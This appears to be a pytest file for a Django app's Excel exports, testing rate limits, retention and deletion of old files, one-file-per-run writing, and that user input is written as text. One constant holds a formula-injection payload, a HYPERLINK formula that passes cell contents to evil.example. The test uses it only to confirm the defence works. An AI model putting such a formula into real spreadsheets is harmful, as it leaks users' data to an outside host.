"""Exports (issue 13): limited per staff member, their files kept a stated number of days, written
once however often the task runs, and every cell written as text (no formula from user input)."""

import datetime
import io
import os

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.utils import timezone
from openpyxl import load_workbook

from accreg.review.exports import delete_expired_exports, write_export
from accreg.review.models import Export
from tests.conftest import CommittingClient

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'


def cells(client, export_id):  # type: ignore[no-untyped-def]
    download = client.get(f"/api/v1/review/exports/{export_id}/file")
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    return list(sheet.iter_rows(min_row=2))


def test_a_unit_name_that_looks_like_a_formula_is_exported_as_text(submitted, reviewer):
    submitted("410105", unit=FORMULA, name="=1+1")
    client = reviewer("410100")

    started = client.post("/api/v1/review/exports", {}).json()
    [row] = cells(client, started["id"])

    assert row[7].value == FORMULA and row[7].data_type == "s"  # 工作单位: a string, not a formula
    assert row[0].value == "=1+1" and row[0].data_type == "s"
    assert all(cell.data_type != "f" for cell in row)


def test_exports_past_the_hourly_limit_are_refused_with_429(submitted, reviewer, settings):
    settings.EXPORTS_PER_HOUR = 2
    submitted("410105")
    client = reviewer("410100")

    answers = [client.post("/api/v1/review/exports", {}) for _ in range(3)]

    assert [a.status_code for a in answers] == [202, 202, 429]
    assert answers[2].json() == {
        "error": {
            "code": "too_many_exports",
            "message": "导出过于频繁：每人每小时最多导出 2 次，请 60 分钟后再试",
            "fields": {},
        }
    }
    assert 3500 < int(answers[2]["Retry-After"]) <= 3600
    assert Export.objects.count() == 2


def test_the_limit_counts_each_staff_member_alone(submitted, reviewer, settings):
    settings.EXPORTS_PER_HOUR = 1
    submitted("410105")

    first = reviewer("410100", "zhang").post("/api/v1/review/exports", {})
    other = reviewer("410100", "li").post("/api/v1/review/exports", {})

    assert first.status_code == other.status_code == 202


def test_exports_waiting_at_once_are_limited_with_a_message_on_the_page(submitted, make_staff, settings):
    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend", "QUEUES": ["default", "sms"]}}
    settings.EXPORTS_AT_ONCE = 2
    submitted("410105")
    browser = CommittingClient()
    browser.force_login(make_staff("zhang", "410100"))

    answers = [browser.post("/review/exports/", {"department": "", "status": ""}) for _ in range(3)]

    assert [a.status_code for a in answers] == [302, 302, 429]
    assert "您已有 2 个导出正在生成，请等它们完成后再导出" in answers[2].content.decode()
    assert answers[2]["Retry-After"] == "60"


def test_the_export_page_says_how_long_the_file_is_kept(submitted, make_staff, settings):
    settings.EXPORT_RETENTION_DAYS = 7
    submitted("410105")
    browser = CommittingClient()
    browser.force_login(make_staff("zhang", "410100"))

    started = browser.post("/review/exports/", {"department": "", "status": ""})
    page = browser.get(started["Location"]).content.decode()
    expires = timezone.localtime(Export.objects.get().expires_at).strftime("%Y-%m-%d %H:%M")

    assert f"导出文件保留 7 天，将于 {expires} 自动删除" in page


def test_files_older_than_the_retention_are_deleted_and_the_export_says_so(submitted, reviewer, settings):
    settings.EXPORT_RETENTION_DAYS = 7
    submitted("410105")
    client = reviewer("410100")
    old = client.post("/api/v1/review/exports", {}).json()["id"]
    recent = client.post("/api/v1/review/exports", {}).json()["id"]
    Export.objects.filter(pk=old).update(finished_at=timezone.now() - datetime.timedelta(days=8))
    old_file = Export.objects.get(pk=old).file.name

    deleted = delete_expired_exports()
    progress = client.get(f"/api/v1/review/exports/{old}").json()
    download = client.get(f"/api/v1/review/exports/{old}/file")

    assert deleted == 1 and not default_storage.exists(old_file)
    assert "url" not in progress and progress["state"] == "done" and progress["file_deleted_at"]
    assert download.status_code == 404
    assert download.json()["error"]["code"] == "export_expired"
    assert download.json()["error"]["message"] == "导出文件只保留 7 天，已删除，请重新导出"
    assert "url" in client.get(f"/api/v1/review/exports/{recent}").json()  # a recent one is kept


def test_old_files_no_export_points_to_are_deleted_too(db, settings):
    settings.EXPORT_RETENTION_DAYS = 7
    old = default_storage.save("exports/export-999_AbCdEf.xlsx", ContentFile(b"x"))
    fresh = default_storage.save("exports/export-998_AbCdEf.xlsx", ContentFile(b"x"))
    eight_days_ago = (timezone.now() - datetime.timedelta(days=8)).timestamp()
    os.utime(default_storage.path(old), (eight_days_ago, eight_days_ago))

    delete_expired_exports()

    assert not default_storage.exists(old) and default_storage.exists(fresh)
    default_storage.delete(fresh)


def test_an_export_run_again_after_a_killed_run_writes_one_file(submitted, reviewer):
    submitted("410105")
    client = reviewer("410100")
    export = Export.objects.get(pk=client.post("/api/v1/review/exports", {}).json()["id"])
    # A run was killed after saving its file, before marking the export done.
    Export.objects.filter(pk=export.pk).update(state="running", finished_at=None)

    write_export.call(export.pk)
    write_export.call(export.pk)  # and a delivery after it finished does nothing
    _, files = default_storage.listdir("exports")

    assert Export.objects.get(pk=export.pk).state == "done"
    assert [f for f in files if f.startswith(f"export-{export.pk}")] == [f"export-{export.pk}.xlsx"]
